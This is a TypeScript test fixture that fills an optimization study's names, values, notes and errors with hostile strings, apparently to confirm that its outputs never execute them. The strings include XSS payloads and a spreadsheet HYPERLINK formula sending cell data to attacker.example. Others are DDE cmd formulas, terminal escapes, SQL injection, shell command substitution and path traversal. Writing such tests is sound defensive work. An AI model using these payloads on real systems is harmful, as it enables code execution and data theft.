/**
 * Texts that try to be more than texts, and a study in which every name, value,
 * note, error and attribute is one of them.
 *
 * @module
 */

import {
  type Configuration,
  createStudy,
  float,
  minimize,
  type Objective,
  ordinal,
  randomSampler,
  type Space,
  space,
  type Study,
} from "../../mod.ts";
import { choice } from "../../lib/space/mod.ts";

/** What code of theirs would set: nothing may. */
export const flag = "etudeAttacked";

const run = `globalThis.${flag}=1`;

/**
 * The texts, each of a kind. Elements and attributes that come of one are called
 * `x-attack…`, and addresses are of `attacker.example`.
 */
export const hostileTexts: readonly string[] = [
  // Markup, out of text, attributes, scripts, styles, titles, comments.
  `<img src=x onerror="${run}" x-attack>`,
  `"><svg/onload=${run} x-attack>`,
  `' onmouseover='${run}' x-attack='`,
  `</script><script x-attack>${run}</script>`,
  `</style></title></textarea><x-attack></x-attack>`,
  `--><x-attack a="`,
  `]]><x-attack/>`,
  `<a href="javascript:${run}" x-attack>click</a>`,
  `<iframe srcdoc="<script>parent.${flag}=1</script>" x-attack></iframe>`,
  `<link rel=stylesheet href=http://attacker.example/a.css x-attack>`,
  `&lt;x-attack&gt; &#60;x-attack&#62; &amp;lt;`,
  `<math><mtext><table><mglyph><style><x-attack>`,
  `<!--<x-attack>`,
  // Expressions of Vega, templates, JavaScript.
  `datum.${run}`,
  `\\"]) + (${run}) + datum["`,
  `'+(${run})+'`,
  `{"signal":"${run}"}`,
  `a.b[0]['c'].\\d`,
  "${" + run + "}{{" + run + "}}`" + run + "`",
  `";${run};//`,
  // Markdown.
  `[x](javascript:${run}) ![i](http://attacker.example/a.png)`,
  "| x | y |\r\n|---|---|\r\n| x-attack | 1 |",
  "```\n# x-attack\n> quote\n- item\n1. one\n\n---\n$x$ **b** _i_ ~s~",
  '[r]: http://attacker.example/ "t"\n<http://attacker.example/>',
  // Formulas of spreadsheets.
  `=HYPERLINK("http://attacker.example/?"&A1,"x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3`,
  `\t=1+1`,
  `'=1`,
  // A terminal's: colors, links, titles, clearing, over-writing, the 8-bit kind.
  "\u001b]8;;http://attacker.example\u0007link\u001b]8;;\u0007\u001b[2J\u001b[31m",
  "\u009b31m\u009d0;title\u009c\u0085",
  "over\rwritten\b\b\b\u0007",
  // The order of reading, line ends, what is no character.
  "\u202egnp.exe\u2066\u200f",
  "line\u2028forged: 1\u2029forged: 2\nforged: 3",
  "\u0000\ud800\ufffe\uffff",
  // What every object has.
  "constructor",
  "__proto__ ",
  "hasOwnProperty",
  "toString",
  // Databases, shells, paths.
  `'); DROP TABLE trials; --`,
  "$(touch x-attack) `touch x-attack` ; | & > x",
  "../../../../tmp/x-attack",
  "--help",
  " ",
  "x".repeat(400),
];

/** The texts, from another one on. */
export function rotated(by: number): readonly string[] {
  const at = by % hostileTexts.length;
  return [...hostileTexts.slice(at), ...hostileTexts.slice(0, at)];
}

/** A space whose names and choices are all texts; the numbers come first. */
export function hostileSpace(texts: readonly string[]): Space {
  return space(
    Object.fromEntries(
      texts.slice(0, 24).map((name, i) => {
        const kinds = [
          () => float(0, 1),
          () => choice(texts.slice(0, 20)),
          () => ordinal(texts.slice(20, 26)),
          () => float(1e-3, 1, { log: true }),
        ];
        return [name, kinds[i % kinds.length]!()];
      }),
    ),
  ) as unknown as Space;
}

/** A study in memory of which every text is hostile, with trials of all states. */
export async function hostileStudy(by: number): Promise<Study<Configuration>> {
  const texts = rotated(by);
  const at = (i: number) => texts[i % texts.length]!;
  const objective: Objective = minimize(at(1));
  const study = await createStudy<Configuration>({
    name: at(0),
    space: hostileSpace(texts) as never,
    objective,
    constraints: { [at(2)]: { max: 1 }, [at(3)]: { min: 0 } },
    sampler: randomSampler(),
    storage: "memory",
    library: false,
    seed: "hostile",
  });
  let shown = 0;
  await study.optimize(async (trial) => {
    const n = trial.number;
    for (let step = 1; step <= 10; step++) {
      await trial.report(step, {
        [objective.name]: 1 / step + n / 10 + (n === 2 ? step : 0),
        [at(n + 4)]: step,
        [`train ${at(n + 5)}`]: 2 / step,
      });
    }
    trial.measure(at(2), n / 10);
    trial.measure(at(3), 1 - n / 10);
    await trial.setAttribute(at(n + 6), { [at(n + 7)]: at(n + 8) });
    if (n % 4 === 3) throw new Error(at(shown++ + 9));
    return 1 / 10 + n / 10;
  }, { trials: 14, progress: false });
  for (let n = 0; n < 6; n++) await study.note(n, at(n + 10));
  await study.discard(5, at(11));
  await study.enqueue({}, { reason: at(12) });
  await study.setAttribute(at(13), at(14));
  await study.prefer(0, 1);
  return study;
}
